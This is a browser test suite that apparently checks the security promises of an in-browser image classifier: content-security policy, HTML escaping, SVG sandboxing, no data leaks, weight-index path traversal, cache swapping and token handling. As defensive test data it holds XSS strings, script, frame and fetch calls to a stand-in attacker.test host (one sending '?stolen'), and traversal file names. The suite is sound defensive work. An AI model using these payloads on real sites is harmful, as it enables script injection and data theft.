/** The promises of SECURITY.md: hostile pictures, weights, hubs and pages do no harm. */
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { test } from 'node:test';
import { browserOfTests } from './browsers.js';
import { Harness, fileAt, openIn, problemsOf } from './harness.js';
import { cardOf, drop, labelsOf, scoredLabel } from './page-actions.js';
import { INDEX, WEIGHTS, otherWeights, sharded } from './weights/checkpoint.js';
import { FakeHub, load, small } from './weights/fake-hub.js';

const harness = new Harness();
const blank = '/tests/browser/pages/blank.html';
const HTML = '<img src=x onerror="globalThis.attacked=true"><b>bold</b>';

/** The scripts that a visitor runs, by path, without what wasm-bindgen makes. */
const scripts = readdirSync(fileAt('www'), { recursive: true, withFileTypes: true })
  .filter((entry) => entry.isFile() && entry.name.endsWith('.js') && !entry.parentPath.includes('/wasm'))
  .map((entry) => ({ name: entry.name, text: readFileSync(`${entry.parentPath}/${entry.name}`, 'utf8') }));

for (const [what, pattern, known = []] of /** @type {[string, RegExp, string[]?][]} */ ([
  [
    'makes HTML of data',
    /innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|srcdoc|createContextualFragment/,
  ],
  ['makes code of data', /\beval\(|new Function\(|setTimeout\(\s*['"`]/],
  [
    'listens to other windows',
    /addEventListener\(\s*['"]message|window\.onmessage|\.opener|window\.parent|parent\.postMessage/,
  ],
  ['writes to a log, a cookie or text storage', /console\.|localStorage|sessionStorage|document\.cookie/],
  ['but one, which keeps the handle of a folder, uses IndexedDB', /indexedDB/, ['folder.js']],
])) {
  test(`no script ${what}`, () => {
    assert.ok(scripts.length > 20, 'the search finds the scripts');
    const found = scripts.filter(({ text }) => pattern.test(text)).map(({ name }) => name);
    assert.deepEqual(found, known);
  });
}

test("the page's policy blocks foreign and injected code, frames, forms, media and plain connections", async () => {
  const page = await harness.open();
  await labelsOf(page, 'insect.jpg');
  const blocked = await page.evaluate(async () => {
    /** @type {Set<string>} */
    const directives = new Set();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      directives.add(`${effectiveDirective} ${blockedURI.replace(/^(\w+:\/\/[^/]*).*/, '$1')}`),
    );
    const state = /** @type {any} */ (globalThis);
    /** @param {string} tag @param {Record<string, string>} attributes @param {string} [text] */
    const add = (tag, attributes, text = '') => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    add('script', {}, 'globalThis.attacked = "an inline script"');
    add('script', { src: 'https://attacker.test/x.js' });
    add('script', { src: 'data:text/javascript,globalThis.attacked="a data: script"' });
    add('button', { onclick: 'globalThis.attacked = "a handler"' }).click();
    add('a', { href: 'javascript:globalThis.attacked="an address"' }).click();
    add('iframe', { src: 'https://attacker.test/' });
    add('object', { data: 'https://attacker.test/x.swf' });
    add('link', { rel: 'stylesheet', href: 'https://attacker.test/x.css' });
    add('base', { href: 'https://attacker.test/' });
    // Into a frame, because the driver waits for a navigation of the page, blocked or not.
    add('iframe', { name: 'inside' });
    const form = add('form', { action: 'https://attacker.test/', method: 'post', target: 'inside' });
    try {
      /** @type {HTMLFormElement} */ (form).submit();
    } catch {
      // Firefox throws as well.
    }
    add('img', { src: 'http://attacker.test/x.png' });
    add('video', { src: 'https://attacker.test/x.mp4' });
    try {
      new Worker('data:text/javascript,').onerror = (event) => event.preventDefault();
    } catch {
      // Where it does not throw, the violation is reported all the same.
    }
    // Outside the driver's own script, to which the policy does not apply.
    await new Promise((resolve) => setTimeout(resolve));
    const thrown = [];
    for (const attempt of [
      () => (0, eval)('globalThis.attacked = "eval"'),
      () => new Function('globalThis.attacked = "a function"')(),
    ]) {
      try {
        attempt();
        thrown.push('nothing');
      } catch (error) {
        thrown.push(/** @type {Error} */ (error).name);
      }
    }
    const sent = await fetch('http://attacker.test/?stolen').then(
      () => 'sent',
      () => 'refused',
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    const { attacked } = state;
    return { directives: [...directives], attacked, thrown, sent, base: document.baseURI };
  });
  assert.equal(blocked.attacked, undefined);
  assert.equal(blocked.sent, 'refused');
  assert.deepEqual(blocked.thrown, ['EvalError', 'EvalError']);
  assert.equal(new URL(blocked.base).origin, harness.server.origin);
  const names = new Set(blocked.directives.map((line) => line.split(' ')[0].replace(/-(elem|attr)$/, '')));
  const expected = ['script-src', 'frame-src', 'object-src', 'style-src', 'base-uri', 'connect-src'];
  for (const name of [...expected, 'form-action', 'img-src', 'media-src', 'worker-src']) {
    assert.ok(
      names.has(name) || (name === 'frame-src' && names.has('child-src')),
      `${name}: ${blocked.directives}`,
    );
  }
  assert.equal((await labelsOf(page, 'insect.jpg'))[0], 'an insect', 'the page still works');
});

test('HTML in labels, file names, addresses and errors stays text', async () => {
  const page = await harness.open();
  await labelsOf(page, 'insect.jpg');
  const entry = page.getByRole('textbox', { name: 'New label' });
  await entry.fill(`a cat ${HTML}`);
  await entry.press('Enter');
  await scoredLabel(page, 'insect.jpg', HTML).waitFor();
  await page.evaluate(async (name) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File(['no picture'], name, { type: 'image/png' }));
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
  }, `${HTML}.png`);
  await cardOf(page, HTML).getByRole('alert').waitFor();
  const address = page.getByLabel('Address of a picture');
  await address.fill(`/nowhere/${HTML}`);
  await address.press('Enter');
  await drop(page, ['www/samples/dog.jpg']);
  await labelsOf(page, 'dog.jpg');
  const state = await page.evaluate(() => ({
    attacked: /** @type {any} */ (globalThis).attacked,
    bold: document.querySelectorAll('b').length,
    handlers: document.querySelectorAll('[onerror]').length,
  }));
  assert.deepEqual(state, { attacked: undefined, bold: 0, handlers: 0 });
});

test('an SVG runs no script and fetches nothing', async () => {
  const page = await harness.open();
  await labelsOf(page, 'insect.jpg');
  const leak = `${harness.server.origin}/leak`;
  const attack = `globalThis.attacked=parent.attacked=true;fetch('${leak}/script')`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="${attack}">
    <script>${attack}</script><style>@import url(${leak}/style); rect { fill: url(${leak}/fill#a) }</style>
    <rect width="64" height="64"/><image href="${leak}/image" width="9" height="9"/><use href="${leak}/use#a"/>
  </svg>`;
  await page.evaluate((svg) => {
    const dataTransfer = new DataTransfer();
    dataTransfer.items.add(new File([svg], 'drawing.svg', { type: 'image/svg+xml' }));
    document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
  }, svg);
  assert.ok((await labelsOf(page, 'drawing.svg')).length, 'it is drawn');
  assert.equal(await page.evaluate(() => /** @type {any} */ (globalThis).attacked), undefined);
  assert.deepEqual(harness.server.requestsOf('leak'), []);
});

test('an SVG with HTML in it is read, and the error about an <img> of it names what the browser keeps back', async () => {
  const page = await harness.open({ path: blank });
  const [file, address, image] = await page.evaluate(async () => {
    const { Siglip } = await import('/www/siglip.js');
    const { outcome } = await import('/tests/browser/pages/outcome.js');
    const siglip = await Siglip.load('tiny', { workers: 1 });
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><foreignObject width="64" height="64">
      <div xmlns="http://www.w3.org/1999/xhtml">text</div></foreignObject></svg>`;
    const file = new File([svg], 'drawing.svg', { type: 'image/svg+xml' });
    const src = URL.createObjectURL(file);
    const outcomes = [];
    for (const picture of [file, src, Object.assign(new Image(), { src })]) {
      outcomes.push(await outcome(siglip.embedImage(picture)));
    }
    siglip.dispose();
    return outcomes.map(({ code, message }) => ({ code, message }));
  });
  assert.equal(file.code, 'fulfilled', file.message);
  assert.equal(address.code, 'fulfilled', address.message);
  assert.equal(image.code, browserOfTests.keepsBackForeignObjects ? 'bad-image' : 'fulfilled');
  if (image.code === 'bad-image')
    assert.match(image.message, /foreignObject\)\. Pass the file or its address\.$/);
});

test('pictures and labels are sent nowhere', async () => {
  const page = await harness.open();
  await labelsOf(page, 'insect.jpg');
  await harness.untilQuiet();
  /** @type {string[]} */
  const requests = [];
  harness.server.intercept = (_path, _response, method, request) => {
    requests.push(`${method} ${request.url} ${JSON.stringify(request.headers)}`);
    return false;
  };
  const entry = page.getByRole('textbox', { name: 'New label' });
  await entry.fill('a SECRET');
  await entry.press('Enter');
  await drop(page, ['www/samples/dog.jpg', 'tests/fixtures/pictures/rare/boat.tif']);
  await labelsOf(page, 'boat.tif');
  for (const line of requests) {
    assert.match(line, /^GET \/www\/(lib\/other-decoders\.js|rare-formats\.js|wasm\/rare-formats\/[\w.]+) /);
    assert.doesNotMatch(line, /SECRET|dog|boat/);
  }
  const { elsewhere, own } = await page.evaluate(() => {
    const names = performance.getEntriesByType('resource').map(({ name }) => name);
    const isOwn = (/** @type {string} */ name) => name.startsWith(location.origin);
    return {
      elsewhere: names.filter((name) => !/^(blob|data):/.test(name) && !isOwn(name)),
      own: names.length,
    };
  });
  assert.ok(own > 0);
  assert.deepEqual(elsewhere, []);
});

test('a picture of another site is read only if that site agrees, and the error says so', async () => {
  const page = await harness.open({ path: blank });
  const foreign = await harness.startServer();
  const address = `${foreign.origin}/www/samples/cat.jpg`;
  const outcomes = await page.evaluate(async (address) => {
    const { Siglip } = await import('/www/siglip.js');
    const { outcome } = await import('/tests/browser/pages/outcome.js');
    const siglip = await Siglip.load('tiny', { workers: 1 });
    const image = new Image();
    image.src = address;
    await image.decode();
    const outcomes = [await outcome(siglip.embedImage(address)), await outcome(siglip.embedImage(image))];
    siglip.dispose();
    return outcomes.map(({ code, message }) => ({ code, message }));
  }, address);
  assert.deepEqual(
    outcomes.map(({ code }) => code),
    ['network', 'bad-image'],
  );
  assert.match(outcomes[0].message, /whether its site lets this page read it/);
  assert.match(outcomes[1].message, /from another site\. Load it with crossorigin="anonymous"/);
  foreign.headers = { 'access-control-allow-origin': harness.server.origin };
  const agreed = await page.evaluate(async (address) => {
    const { Siglip } = await import('/www/siglip.js');
    const siglip = await Siglip.load('tiny', { workers: 1 });
    return (await siglip.classify(`${address}?agreed`, ['a cat', 'a boat']))[0].label;
  }, address);
  assert.equal(agreed, 'a cat');
});

test('HTML in the element stays text, whatever attribute it is in', async () => {
  const page = await harness.open({ path: blank });
  const state = await page.evaluate(async (html) => {
    await import('/www/siglip-classifier.js');
    const element = /** @type {any} */ (document.createElement('siglip-classifier'));
    const failed = new Promise((resolve) => element.addEventListener('error', resolve));
    Object.assign(element, { labels: [html, 'a cat'], template: `{} ${html}`, src: '/www/samples/cat.jpg' });
    element.setAttribute('model', `/nowhere/${html}/`);
    document.body.append(element);
    element.load().catch(() => {});
    await failed;
    element.setAttribute('model', 'tiny');
    await element.load();
    await new Promise((resolve) => element.addEventListener('result', resolve));
    const root = element.shadowRoot;
    return {
      attacked: /** @type {any} */ (globalThis).attacked,
      bold: root.querySelectorAll('b').length,
      shown: root.textContent.includes('<b>bold</b>'),
    };
  }, HTML);
  assert.deepEqual(state, { attacked: undefined, bold: 0, shown: true });
});

test('messages from other windows have no effect', async () => {
  const page = await harness.open();
  await labelsOf(page, 'insect.jpg');
  await harness.untilQuiet();
  const before = harness.server.log.length;
  await page.evaluate(async () => {
    for (const data of [
      { id: 1, method: 'load', parameters: { source: '/elsewhere/' } },
      { id: 1, result: [{ label: 'wrong', score: 1 }] },
      { follow: {} },
      { join: {} },
      { abort: 1 },
      'text',
      null,
    ]) {
      window.postMessage(data, '*');
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  });
  assert.deepEqual(harness.server.log.slice(before), []);
  assert.equal((await labelsOf(page, 'insect.jpg'))[0], 'an insect');
  assert.deepEqual(await problemsOf(page), []);
});

test('an index of weight files cannot name files outside its folder', async () => {
  const page = await harness.open({ path: blank });
  const files = sharded(small, 2);
  /** @type {{weight_map: Record<string, string>}} */
  const index = JSON.parse(String(files[INDEX]));
  for (const name of [
    '../secret/model.safetensors',
    '/secret/model.safetensors',
    'https://attacker.test/model.safetensors',
    '..\\secret\\model.safetensors',
    '%2e%2e/secret/model.safetensors',
    '.',
    '..',
    'model.safetensors?secret',
    'model.safetensors#secret',
    '//attacker.test/model.safetensors',
  ]) {
    const [first] = Object.keys(index.weight_map);
    const weight_map = { ...index.weight_map, [first]: name };
    const hub = new FakeHub({ ...files, [INDEX]: Buffer.from(JSON.stringify({ ...index, weight_map })) });
    harness.server.intercept = hub.at('/model/');
    harness.server.log = [];
    const { code, message } = await load(page, '/model/', { cache: false });
    assert.ok(['bad-weights', 'not-found'].includes(code ?? ''), `${name}: ${code}: ${message}`);
    const outside = harness.server.log.filter((line) => !/ \/(model|www|tests)\//.test(line));
    assert.deepEqual(outside, [], name);
  }
});

test('cached files of one model are never used for another', async () => {
  const page = await harness.open({ path: blank });
  const [one, other] = [new FakeHub(), new FakeHub(otherWeights(small))];
  harness.server.intercept = async (path, ...rest) =>
    (await one.at('/one/')(path, ...rest)) !== false || (await other.at('/other/')(path, ...rest));
  const answers = [await load(page, '/one/'), await load(page, '/other/')];
  assert.notEqual(answers[0].embeddings, answers[1].embeddings);
  // Puts one model's bytes in the place of the other's.
  const swapped = await page.evaluate(async () => {
    const isOf = async (/** @type {Blob} */ blob, /** @type {string} */ folder) =>
      (await blob.slice(0, 1000).text()).includes(folder);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      const entries = await Promise.all(
        (await cache.keys()).map(async (request) => ({
          request,
          blob: await /** @type {Response} */ (await cache.match(request)).blob(),
        })),
      );
      let [from, to] = /** @type {any[]} */ ([undefined, undefined]);
      for (const { request, blob } of entries) {
        if (await isOf(blob, '/one/')) from = blob;
        if (await isOf(blob, '/other/')) to = request;
      }
      if (from && to) {
        await cache.put(to, new Response(from));
        return true;
      }
    }
    const root = await navigator.storage.getDirectory();
    for await (const folder of root.values()) {
      let [from, to] = /** @type {any[]} */ ([undefined, undefined]);
      for await (const handle of /** @type {FileSystemDirectoryHandle} */ (folder).values()) {
        const file = await /** @type {FileSystemFileHandle} */ (handle).getFile();
        if (await isOf(file, '/one/')) from = await file.arrayBuffer();
        if (await isOf(file, '/other/')) to = handle;
      }
      if (!from || !to) continue;
      const writable = await to.createWritable();
      await writable.write(from);
      await writable.close();
      return true;
    }
    return false;
  });
  assert.ok(swapped);
  other.isOpen = false;
  const alone = await load(page, '/other/');
  assert.equal(alone.code, 'network', alone.embeddings && 'it has answered with the weights of the other');
  other.isOpen = true;
  assert.equal((await load(page, '/other/')).embeddings, answers[1].embeddings);
});

test('headers with a token are sent to the hub only, and neither stored nor shown', async () => {
  const page = await harness.open({ path: blank });
  const token = 'Bearer hf_SECRET';
  const headers = { authorization: token, 'x-token': 'hf_SECRET' };
  const hub = new FakeHub();
  const elsewhere = await harness.startServer({ 'access-control-allow-origin': '*' });
  /** @type {import('node:http').IncomingHttpHeaders[]} */
  const seen = [];
  elsewhere.intercept = (path, response, method, request) => {
    seen.push(request.headers);
    response.setHeader('access-control-allow-headers', '*, authorization');
    return hub.at('/cdn/')(path, response, method, request);
  };
  let redirects = false;
  harness.server.intercept = (path, response, method, request) => {
    if (path !== `/model/${WEIGHTS}` || !redirects) return hub.at('/model/')(path, response, method, request);
    response.writeHead(302, { location: `${elsewhere.origin}/cdn/${WEIGHTS}` }).end();
  };
  /** @type {string[]} */
  const said = [];
  const told = (/** @type {unknown} */ value) => said.push(JSON.stringify(value));
  told(await load(page, '/model/', { headers }));
  assert.equal(hub.headers[0].authorization, token);
  told(await load(page, '/model/', { headers }));
  redirects = true;
  told(await load(page, '/model/', { headers: { authorization: token }, cache: false }));
  for (const { authorization } of seen) assert.equal(authorization, undefined, 'sent on to another site');
  redirects = false;
  hub.faults = { 'config.json': [{ status: 401 }] };
  const refused = await load(page, '/model/', { headers, cache: false });
  assert.ok(refused.code, 'refused');
  told(refused);
  told(await problemsOf(page));
  const kept = await page.evaluate(async () => {
    let text = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href]);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        const response = /** @type {Response} */ (await cache.match(request));
        text += `${request.url} ${JSON.stringify([...request.headers, ...response.headers])} ${await response.text()}`;
      }
    }
    const root = await navigator.storage?.getDirectory?.().catch(() => undefined);
    for await (const folder of root?.values() ?? []) {
      for await (const file of /** @type {FileSystemDirectoryHandle} */ (folder).values()) {
        text += await (await /** @type {FileSystemFileHandle} */ (file).getFile()).text();
      }
    }
    const databases = (await indexedDB.databases?.()) ?? [];
    return { text, databases: databases.length };
  });
  assert.ok(kept.text.includes('/model/'), 'the model is kept');
  assert.equal(kept.databases, 0);
  assert.ok(!kept.text.includes('SECRET'), 'the token is kept');
  assert.ok(!said.join().includes('SECRET'), said.join());
});

test('a page of another site that frames this one cannot read it', async () => {
  const page = await harness.open({ path: blank });
  const foreign = await harness.startServer();
  foreign.intercept = (path, response) => {
    if (path !== '/frame') return false;
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><iframe src="${harness.server.origin}/"></iframe>`);
  };
  // Another port of the same host is another origin.
  const host = await openIn(page.context(), `${foreign.origin}/frame`);
  const read = await host.evaluate(async () => {
    const frame = /** @type {HTMLIFrameElement} */ (document.querySelector('iframe'));
    await new Promise((resolve) => setTimeout(resolve, 1500));
    frame.contentWindow?.postMessage({ id: 1, method: 'load' }, '*');
    try {
      return String(frame.contentDocument ?? /** @type {any} */ (frame.contentWindow).document);
    } catch (error) {
      return /** @type {Error} */ (error).name;
    }
  });
  assert.equal(read, 'SecurityError', browserOfTests.name);
});
